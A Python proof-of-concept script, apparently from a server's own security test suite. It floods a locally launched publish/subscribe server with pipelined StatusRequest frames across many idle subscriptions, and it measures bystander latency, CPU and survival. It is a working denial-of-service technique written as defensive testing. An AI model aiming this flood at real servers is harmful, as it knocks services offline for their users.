"""Attack: StatusRequest (admin; everyone without an auth file) builds the id-order block by
visiting every subscription of every connection, twice per request (counted when held, built
when sent). Many idle subscriptions + a pipelined stream of StatusRequests: each frame costs one
unit of the turn's budget but O(subscriptions) work.

usage: status_scan.py CONNECTIONS SECONDS"""
import sys
import threading
import time

from common import Bystander, Conn, Server, fc, report

conns_n = int(sys.argv[1]) if len(sys.argv) > 1 else 100
seconds = float(sys.argv[2]) if len(sys.argv) > 2 else 8
server = Server(["--max-connections", "4096"])
try:
    idle = []
    for c in range(conns_n):
        conn = Conn(server.port, f"idle{c}")
        conn.send(b"".join(fc.encode_subscribe(s, "/idle/**", fc.Start.end(), 0, True, 1)
                           for s in range(1, 65)))
        idle.append(conn)
    for conn in idle:
        while conn.recv(timeout=0.2) is not None:
            pass
    by = Bystander(server.port)
    time.sleep(3)
    base = by.summary()
    by.latencies.clear()
    cpu0 = server.cpu_s()
    attacker = Conn(server.port, "attacker")
    attacker.drain_forever()
    stop = time.time() + seconds
    request = fc.frame(fc.STATUS_REQUEST) * 1000
    sent = 0

    def flood():
        global sent
        while time.time() < stop:
            attacker.send(request)
            sent += 1000
    t = threading.Thread(target=flood, daemon=True)
    t.start()
    t.join()
    attack = by.stop()
    report(f"status scan: {conns_n} connections x 64 idle subscriptions, Status flood {seconds}s",
           baseline=base, under_attack=attack, status_sent=sent,
           reply_bytes_read=attacker.read_bytes,
           server_cpu_s=f"{server.cpu_s() - cpu0:.1f}", rss_mb=f"{server.rss_mb():.0f}",
           alive=server.alive())
finally:
    server.stop()
